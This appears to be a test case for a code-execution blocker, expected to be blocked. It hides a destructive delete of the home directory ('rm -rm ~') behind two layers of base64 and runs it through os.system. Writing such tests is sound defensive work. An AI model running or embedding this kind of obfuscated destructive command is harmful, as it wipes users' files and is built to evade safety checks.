# expect: BLOCKED
import base64, os
os.system(base64.b64decode(base64.b64decode("Y20gLXJtIH4=".replace("Y20gLXJtIH4=", "Y20wZ0xYSm1JSDQ9"))).decode())
